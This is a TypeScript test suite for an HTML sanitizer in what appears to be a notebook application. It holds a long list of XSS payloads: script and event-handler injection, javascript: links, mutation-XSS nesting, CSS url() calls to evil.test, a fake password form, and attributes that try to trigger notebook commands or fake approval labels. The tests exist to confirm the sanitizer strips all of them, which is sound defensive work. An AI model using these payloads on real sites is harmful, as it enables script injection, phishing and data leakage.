/** Hostile HTML: what is left of it once it is in the page. */

import { holdsMath } from '../src/entry/math';
import { isWebAddress, sanitized } from '../src/entry/sanitize';

function kept(html: string): HTMLElement {
  const made = document.createElement('div');
  made.append(sanitized(html));
  return made;
}

const TRAP = 'globalThis.sprung = true';

const HOSTILE = [
  `<script>${TRAP}</script>`,
  `<SCRIPT SRC="https://evil.test/x.js"></SCRIPT>`,
  `<scr<script>ipt>${TRAP}</scr</script>ipt>`,
  `<img src=x onerror="${TRAP}">`,
  `<img src="https://evil.test/pixel.png">`,
  `<img srcset="https://evil.test/pixel.png 1x" src="data:image/svg+xml;base64,PHN2Zz4=">`,
  `<img src="data:text/html;base64,PHNjcmlwdD4=">`,
  `<audio src="https://evil.test/a.mp3" autoplay onloadstart="${TRAP}"></audio>`,
  `<video src="https://evil.test/a.mp4" poster="https://evil.test/p.png"></video>`,
  `<p onclick="${TRAP}" onmouseover="${TRAP}">text</p>`,
  `<details ontoggle="${TRAP}" open><summary>s</summary></details>`,
  `<iframe src="https://evil.test"></iframe>`,
  `<iframe srcdoc="<script>${TRAP}</script>"></iframe>`,
  `<object data="https://evil.test/x.swf"></object><embed src="https://evil.test/x.swf">`,
  `<a href="javascript:${TRAP}">x</a>`,
  `<a href="  java\nscript:${TRAP}">x</a>`,
  `<a href="&#106;avascript:${TRAP}">x</a>`,
  `<a href="data:text/html,<script>${TRAP}</script>">x</a>`,
  `<a href="vbscript:x">x</a><a href="file:///etc/passwd">x</a><a href="blob:x">x</a>`,
  `<a href="//evil.test/x">x</a><a href="/lab/api/shutdown">x</a><a href="#cell">x</a>`,
  `<a href="https://user:secret@evil.test/">x</a>`,
  `<a href="https://evil.test" ping="https://evil.test/ping" download target="_self">x</a>`,
  `<svg><script>${TRAP}</script><a xlink:href="javascript:${TRAP}"><text>x</text></a></svg>`,
  `<svg onload="${TRAP}"><animate onbegin="${TRAP}" attributeName="x"/></svg>`,
  `<svg><foreignObject><iframe src="javascript:${TRAP}"></iframe></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${TRAP}"></style></mglyph></table></mtext></math>`,
  `<math href="javascript:${TRAP}"><mi>x</mi></math>`,
  `<style>body { background: url(https://evil.test/x) }</style>`,
  `<p style="background:url(https://evil.test/x)">x</p>`,
  `<p style="background-image:url(https://evil.test/x)">x</p>`,
  `<p style="background:\\75rl(https://evil.test/x)">x</p>`,
  `<p style="background:u/**/rl(https://evil.test/x)">x</p>`,
  `<p style="color:red;position:fixed;inset:0;z-index:9999">x</p>`,
  `<p style="position:absolute;top:0">x</p><p style="transform:translate(-9em)">x</p>`,
  `<p style="margin:-9em">x</p><p style="margin-top:-1px">x</p><p style="float:left">x</p>`,
  `<p style="width:expression(${TRAP})">x</p><p style="behavior:url(#x)">x</p>`,
  `<p style="-moz-binding:url(https://evil.test/x)">x</p>`,
  `<p style="font-size:900px">x</p><p style="opacity:0">x</p><p style="display:none">x</p>`,
  `<p style="color:var(--evil)">x</p><p style="content:attr(x)">x</p>`,
  `<p style="animation:x 1s;cursor:url(https://evil.test/x),auto">x</p>`,
  `<button data-commandlinker-command="filebrowser:delete">Allow once</button>`,
  `<a href="#" data-commandlinker-command="kernelmenu:shutdown" data-commandlinker-args="{}">x</a>`,
  `<span data-commandlinker-command="terminal:create-new">x</span>`,
  `<button data-acp-action="run" data-acp-index="0">Run</button>`,
  `<span data-acp-action="run" data-acp-key="x">Run</span>`,
  `<form action="https://evil.test"><input name="password" type="password"><button>Log in</button></form>`,
  `<input type="image" src="https://evil.test/x" formaction="javascript:${TRAP}">`,
  `<select><option>x</option></select><textarea>x</textarea><label for="x">x</label>`,
  `<isindex action="javascript:${TRAP}"><keygen autofocus onfocus="${TRAP}">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.test">`,
  `<base href="https://evil.test/"><link rel="stylesheet" href="https://evil.test/x.css">`,
  `<body onload="${TRAP}" background="https://evil.test/x"><p>x</p></body>`,
  `<template><script>${TRAP}</script></template><noscript><p title="</noscript><img src=x onerror=${TRAP}>"></noscript>`,
  `<xmp><img src=x onerror="${TRAP}"></xmp><plaintext><img src=x onerror="${TRAP}">`,
  `<!--><img src=x onerror="${TRAP}">--><![CDATA[<script>${TRAP}</script>]]>`,
  `<title><img src=x onerror="${TRAP}"></title><noembed><img src=x onerror="${TRAP}"></noembed>`,
  `<p id="jp-main-dock-panel" name="location" class="jp-Dialog lm-Widget jp-mod-selected">x</p>`,
  `<p contenteditable tabindex="1" accesskey="s" draggable="true" autofocus inert hidden>x</p>`,
  `<dialog open>x</dialog><marquee onstart="${TRAP}">x</marquee><portal src="https://evil.test">`,
  `<custom-element is="x" slot="y">x</custom-element><slot name="x"></slot>`,
  `<table background="https://evil.test/x"><tr><td background="https://evil.test/y" colspan="1e9">x</td></tr></table>`,
  `<ol start="99999999999999"><li value="1">x</li></ol><q cite="https://evil.test">x</q>`,
  `<frameset><frame src="https://evil.test"></frameset><applet code="x"></applet>`,
  `<p aria-label="Allowed by you" role="button" aria-live="assertive">x</p>`,
  `${'<div>'.repeat(3_000)}<img src=x onerror="${TRAP}">`
];

const ATTRIBUTES: Record<string, RegExp> = {
  class: /^((highlight|mathjax_ignore|tex2jax_ignore|[a-z][a-z0-9]{0,2})( |$))+$/,
  style: /^(color|[a-z-]+):[^;:\\]*(;[a-z-]+:[^;:\\]*)*$/,
  href: /^https?:\/\/[^@]*$/,
  rel: /^noopener noreferrer$/,
  target: /^_blank$/,
  src: /^data:(image\/(png|jpeg|gif|webp)|audio\/[a-z0-9]+);base64,/,
  alt: /^/,
  controls: /^$/,
  open: /^$/,
  start: /^\d{1,9}$/,
  colspan: /^\d{1,3}$/
};

const FORBIDDEN_STYLE =
  /url|expression|position|inset|z-index|transform|float|behavior|binding|animation|cursor|-\d|--evil|none/;

describe('hostile HTML', () => {
  test.each(HOSTILE)('%s', html => {
    const made = kept(html);
    document.body.append(made);
    for (const element of made.querySelectorAll('*')) {
      expect(element.namespaceURI).toBe('http://www.w3.org/1999/xhtml');
      expect(element.localName).toMatch(
        /^(a|audio|b|blockquote|code|details|div|h[1-6]|hr|i|img|li|ol|p|pre|span|strong|summary|table|tbody|td|th|thead|tr|ul)$/
      );
      for (const { name, value } of element.attributes) {
        expect(value).toMatch(ATTRIBUTES[name] ?? /never/);
      }
      expect(element.getAttribute('style') ?? '').not.toMatch(FORBIDDEN_STYLE);
      element.dispatchEvent(new Event('error'));
      element.dispatchEvent(new Event('toggle'));
      element.dispatchEvent(new MouseEvent('mouseover', { bubbles: true }));
    }
    expect('sprung' in globalThis).toBe(false);
    made.remove();
  });

  test('leaves the text of what only looks like something else', () => {
    expect(kept('<button>Allow</button> <form>a<input>b</form>').innerHTML).toBe('Allow ab');
  });

  test('keeps a web link, which opens in a tab that knows nothing of this one', () => {
    const link = kept('<a href="https://a.test/b?c#d">x</a>').querySelector('a')!;
    expect(link.href).toBe('https://a.test/b?c#d');
    expect([link.target, link.rel]).toEqual(['_blank', 'noopener noreferrer']);
  });

  test('keeps what is embedded, pictures and sounds', () => {
    const source = 'data:image/png;base64,iVBORw0KGgo=';
    expect(kept(`<img src="${source}" alt="a plot">`).innerHTML).toBe(
      `<img src="${source}" alt="a plot">`
    );
    const sound = kept('<audio src="data:audio/mpeg;base64,SUQz"></audio>').querySelector('audio')!;
    expect([sound.controls, sound.getAttribute('src')]).toEqual([
      true,
      'data:audio/mpeg;base64,SUQz'
    ]);
  });
});

test.each([
  ['https://a.test', true],
  ['HTTP://A.test:8000/x?y#z', true],
  ['https://', false],
  ['https:a.test', false],
  ['http://u@a.test', false],
  ['https://a.test\\@b.test', false],
  ['javascript://a.test/%0aalert(1)', false]
])('%s is a web address: %s', (href, is) => {
  expect(isWebAddress(href)).toBe(is);
});

describe('holdsMath', () => {
  const holds = (html: string): boolean => {
    const node = document.createElement('div');
    node.append(sanitized(html));
    return holdsMath(node);
  };

  it.each(['<p>$x^2$</p>', '<p>\\(x\\)</p>', '<p>$$\\frac{a}{b}$$</p>'])('takes %s', html => {
    expect(holds(html)).toBe(true);
  });

  it.each([
    '<p>$\\href{javascript:x}{y}$</p>',
    '<p>$\\unicode[x;background:url(https://hostile.invalid)]{65}$</p>',
    '<p>$x$ and $&#92;href{javascript:x}{y}$</p>',
    '<p>$\\csname href\\endcsname{javascript:x}{y}$</p>',
    '<p>$\\def\\h{x}$</p>',
    '<p>$^^5chref{javascript:x}{y}$</p>'
  ])('leaves %s as it is', html => {
    expect(holds(html)).toBe(false);
  });

  it('passes over code, and over what is marked', () => {
    expect(holds('<pre>$x$</pre><code>$\\href{x}{y}$</code>')).toBe(false);
    expect(holds('<p class="mathjax_ignore">$x$</p>')).toBe(false);
  });
});
